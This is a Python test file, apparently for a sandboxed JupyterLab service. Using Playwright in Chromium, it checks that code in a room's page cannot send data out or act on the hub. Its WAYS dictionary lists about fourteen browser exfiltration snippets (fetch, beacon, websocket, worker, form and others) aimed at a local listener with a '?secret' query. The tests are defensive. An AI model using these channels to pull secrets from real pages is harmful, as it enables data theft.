"""The researcher's browser has a network: what code in a room's page can do with it, tried in a real Chromium."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import Page
from tests.support.listeners import Listeners
from tests.support.live import Live
from tests.support.live_world import ALPHA, PASSWORD

pytestmark = [pytest.mark.live, pytest.mark.browser]


@pytest.fixture(scope="module")
def listeners() -> Iterator[Listeners]:
    with Listeners() as opened:
        yield opened


@pytest.fixture(scope="module")
def lab(live: Live, chromium: Chromium) -> Iterator[Page]:
    """JupyterLab of ana's room, reached as a person does: sign-in page, home page, Start."""
    live.session("ana").stop_room(ALPHA)
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.goto(live.url)
    page.get_by_label("User name").fill("ana")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_label("One-time code").fill(live.fresh_code("ana"))
    page.get_by_role("button", name="Sign in").click()
    with context.expect_page() as opened:
        page.get_by_role("link", name="Start the room").click()
    room = opened.value
    room.wait_for_selector(".jp-Launcher", timeout=60000)
    yield room
    context.close()
    # It is another server than the one that the shared room knew.
    live.session("ana").stop_room(ALPHA)


def test_notebook_runs_in_jupyterlab_under_the_policy(lab: Page) -> None:
    lab.locator('.jp-LauncherCard[data-category="Notebook"]').first.click()
    lab.wait_for_selector(".jp-NotebookPanel .jp-Cell")
    # Code that is run while the kernel is still connecting is dropped by JupyterLab.
    lab.get_by_text("| Idle").wait_for(timeout=60000)
    lab.locator(".jp-Notebook .cm-content").first.click()
    lab.keyboard.type("import saferoom; print(6 * 7, saferoom.__version__)")
    lab.keyboard.press("Shift+Enter")
    lab.wait_for_selector(".jp-OutputArea-output:has-text('42')", timeout=30000)


WAYS = {
    "fetch": "fetch(AWAY, {mode: 'no-cors'}).then(() => 'sent')",
    "xhr": "new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok('sent'); x.onerror = no; "
    "x.open('GET', AWAY); x.send(); })",
    "image": "new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('sent'); i.onerror = no; "
    "i.src = AWAY; })",
    "script": "new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('sent'); "
    "s.onerror = no; s.src = AWAY; document.head.append(s); })",
    "style sheet": "new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; "
    "l.onload = () => ok('sent'); l.onerror = no; l.href = AWAY; document.head.append(l); })",
    "font": "new FontFace('x', `url(${AWAY})`).load().then(() => 'sent')",
    "beacon": "new Promise((ok, no) => navigator.sendBeacon(AWAY, 'x') ? setTimeout(no, 500) : no())",
    "websocket": "new Promise((ok, no) => { const w = new WebSocket(AWAY.replace('http', 'ws')); "
    "w.onopen = () => ok('sent'); w.onerror = no; })",
    "event source": "new Promise((ok, no) => { const e = new EventSource(AWAY); e.onopen = () => ok('sent'); "
    "e.onerror = no; })",
    "frame": "new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = AWAY; "
    "document.body.append(f); setTimeout(no, 700); })",
    "form": "new Promise((ok, no) => { const f = document.createElement('form'); f.action = AWAY; f.target = 'x'; "
    "document.body.append(f); f.submit(); setTimeout(no, 500); })",
    "window": "Promise.resolve(window.open(AWAY)).then((w) => { if (w) return 'opened'; throw new Error('closed'); })",
    "prefetch": "new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'prefetch'; "
    "l.href = AWAY; document.head.append(l); setTimeout(no, 700); })",
    "worker": "new Promise((ok, no) => { const b = new Blob([`fetch('${AWAY}', {mode: 'no-cors'})"
    ".then(() => postMessage('sent'), () => postMessage(''))`]); const w = new Worker(URL.createObjectURL(b)); "
    "w.onmessage = (m) => m.data ? ok(m.data) : no(); w.onerror = no; })",
}


@pytest.mark.parametrize("way", WAYS)
def test_way_out_of_the_page_is_closed(lab: Page, listeners: Listeners, way: str) -> None:
    before = len(listeners.said)
    code = WAYS[way].replace("AWAY", f"'http://127.0.0.1:{listeners.port('tcp')}/?secret'")
    assert lab.evaluate(f"() => ({code}).catch(() => 'closed')") == "closed"
    # A browser may connect ahead of a decision it then takes against; what counts is that it says nothing.
    assert [words for words in listeners.said[before:] if words] == []


@pytest.mark.parametrize("path", ["/hub/api/user", "/hub/home", "/services/airlock/", "/user/ana/beta/api"])
def test_page_of_a_room_cannot_act_at_the_hub_or_the_airlock(lab: Page, path: str) -> None:
    code = f"() => fetch('{path}').then((r) => 'answered ' + r.status, () => 'closed')"
    assert lab.evaluate(code) == "closed"


def test_page_of_a_room_cannot_watch_other_pages_with_a_service_worker(lab: Page) -> None:
    code = (
        "() => navigator.serviceWorker.register('/user/ana/alpha/static/favicon.ico', {scope: '/'})"
        ".then(() => 'registered', () => 'closed')"
    )
    assert lab.evaluate(code) == "closed"


def test_page_of_a_room_still_reaches_its_own_server(lab: Page) -> None:
    assert lab.evaluate("() => fetch('/user/ana/alpha/api').then((r) => r.status)") == 200


def test_download_from_a_room_saves_nothing(lab: Page) -> None:
    got: list[str] = []
    lab.on("download", lambda download: got.append(download.url))
    lab.evaluate(
        "() => { const a = document.createElement('a'); a.download = 'x.csv'; "
        "a.href = URL.createObjectURL(new Blob(['secret'])); document.body.append(a); a.click(); }"
    )
    lab.wait_for_timeout(700)
    assert got == []


def test_pages_of_the_hub_are_accessible(live: Live, chromium: Chromium) -> None:
    from axe_playwright_python.sync_playwright import Axe

    context = chromium.new_context()
    page = context.new_page()
    page.goto(live.url)
    assert Axe().run(page).response["violations"] == []
    page.get_by_label("User name").fill("cleo")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_label("One-time code").fill(live.fresh_code("cleo"))
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/hub/home")
    assert Axe().run(page).response["violations"] == []
    page.goto(f"{live.url}/hub/nowhere")
    assert Axe().run(page).response["violations"] == []
    context.close()
